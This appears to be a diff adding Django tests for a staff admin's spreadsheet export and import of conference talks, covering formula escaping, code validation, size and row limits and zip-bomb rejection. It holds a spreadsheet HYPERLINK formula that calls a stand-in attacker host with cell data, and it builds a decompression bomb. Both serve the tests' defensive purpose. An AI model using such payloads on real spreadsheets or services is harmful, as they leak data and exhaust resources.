@@ -1,0 +1,162 @@
+"""The staff admin's spreadsheet pages, as staff meet them: export, import form, preview."""
+
+import csv
+import html
+import io
+import re
+import zipfile
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import override_settings
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from programme.models import Conference, Talk, validate_code
+from programme.spreadsheets import (
+    SPREADSHEET_FORMATS,
+    SpreadsheetCSV,
+    SpreadsheetXLSX,
+    TalkResource,
+)
+
+pytestmark = pytest.mark.django_db
+
+XLSX, CSV = (str(SPREADSHEET_FORMATS.index(f)) for f in (SpreadsheetXLSX, SpreadsheetCSV))
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+
+
+def export_talks(client, file_format, year=2025) -> bytes:
+    year_filter = f"?conference__id__exact={Conference.objects.get(year=year).pk}"
+    response = client.post(
+        reverse("admin:programme_talk_export") + year_filter,
+        {
+            "format": file_format,
+            "resource": "0",
+            "export_items": [],
+            **{f"talkresource_{name}": "on" for name in TalkResource().get_export_order()},
+        },
+    )
+    assert response.status_code == 200
+    return response.content
+
+
+def import_page(client, name, data: bytes, file_format) -> str:
+    upload = SimpleUploadedFile(name, data)
+    response = client.post(
+        reverse("admin:programme_talk_import"),
+        {"import_file": upload, "format": file_format, "resource": "0"},
+    )
+    assert response.status_code == 200
+    return response.content.decode()
+
+
+def text_of(page: str) -> str:
+    """The page's content as a person reads it."""
+    content = page[page.index('id="content"') :]
+    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", content)).split())
+
+
+def preview_kinds(page: str) -> list[tuple[str, str]]:
+    """(import type, row number) of each row of the preview table, in order."""
+    table = page[page.index('class="import-preview"') :]
+    return re.findall(
+        r'<tr class="(\w+)">\s*<td class="import-type">[^<]*</td>\s*<td>(\d+)</td>', table
+    )
+
+
+def talks_state():
+    return sorted(Talk.objects.values_list("conference__year", "code", "title", "session_id"))
+
+
+def test_exported_title_formula_is_text_in_xlsx_and_quoted_in_csv(staff_client):
+    Talk.objects.filter(conference__year=2025, code="A1-2").update(title=FORMULA)
+
+    xlsx = export_talks(staff_client, XLSX)
+    csv_text = export_talks(staff_client, CSV).decode("utf-8-sig")
+
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    (title,) = [row[4] for row in sheet.iter_rows() if row[1].value == "A1-2"]
+    assert (title.value, title.data_type) == (FORMULA, "s")
+    assert '2025,A1-2,A1,2,"\'=HYPERLINK(""http://evil.example/?""&A2,""x"")",' in csv_text
+
+
+def test_exported_formula_reimports_as_unchanged(staff_client):
+    Talk.objects.filter(conference__year=2025, code="A1-2").update(title=FORMULA)
+    xlsx = export_talks(staff_client, XLSX)
+    csv_data = export_talks(staff_client, CSV)
+
+    pages = [
+        import_page(staff_client, "talks.xlsx", xlsx, XLSX),
+        import_page(staff_client, "talks.csv", csv_data, CSV),
+    ]
+
+    for page in pages:
+        kinds = [kind for kind, _number in preview_kinds(page)]
+        assert kinds == ["skip"] * 167
+
+
+def test_bad_talk_code_is_refused_at_its_cell_on_the_import_page(staff_client):
+    csv_text = export_talks(staff_client, CSV).decode("utf-8-sig")
+    bad = csv_text + "2025,E2/9,A1,9,新报告,张三（北京大学）,否,,,,\r\n"
+    before = talks_state()
+
+    page = import_page(staff_client, "talks.csv", bad.encode("utf-8-sig"), CSV)
+
+    text = text_of(page)
+    assert f"168 1 报告编号 {validate_code.message} 2025 E2/9 A1" in text
+    assert 'name="confirm"' not in page
+    assert talks_state() == before
+
+
+@override_settings(IMPORT_MAX_BYTES=10_000)
+def test_file_over_the_size_limit_is_refused_before_reading(staff_client):
+    data = export_talks(staff_client, CSV)
+    before = talks_state()
+
+    page = import_page(staff_client, "talks.csv", data, CSV)
+
+    assert len(data) > 10_000
+    assert "文件大小为 170.5 KB，一次最多可导入 9.8 KB。" in text_of(page)
+    assert 'class="import-preview"' not in page
+    assert talks_state() == before
+
+
+def test_xlsx_that_unpacks_too_far_is_refused_before_opening(staff_client, settings):
+    settings.IMPORT_MAX_BYTES = 100_000
+    bomb = io.BytesIO()
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/worksheets/sheet1.xml", b"<" * 3_000_000)
+    before = talks_state()
+
+    page = import_page(staff_client, "talks.xlsx", bomb.getvalue(), XLSX)
+
+    assert len(bomb.getvalue()) < 100_000
+    assert "文件解压后为 2.9 MB，一次最多可导入 1.9 MB。" in text_of(page)
+    assert talks_state() == before
+
+
+@override_settings(IMPORT_MAX_ROWS=100)
+@pytest.mark.parametrize("file_format", [XLSX, CSV], ids=["xlsx", "csv"])
+def test_file_over_the_row_limit_is_refused(staff_client, file_format):
+    data = export_talks(staff_client, file_format)
+    before = talks_state()
+
+    page = import_page(staff_client, "talks", data, file_format)
+
+    assert "文件超过 100 行，请分几次导入。" in text_of(page)
+    assert 'class="import-preview"' not in page
+    assert talks_state() == before
+
+
+def test_preview_lists_changed_rows_first_with_their_row_numbers(staff_client):
+    rows = list(csv.reader(io.StringIO(export_talks(staff_client, CSV).decode("utf-8-sig"))))
+    rows[-1][rows[0].index("线上")] = "是"  # the last talk goes online
+    edited = io.StringIO()
+    csv.writer(edited).writerows(rows)
+
+    page = import_page(staff_client, "talks.csv", edited.getvalue().encode(), CSV)
+
+    kinds = preview_kinds(page)
+    assert kinds[0] == ("update", "167")
+    assert kinds[1:] == [("skip", str(number)) for number in range(1, 167)]
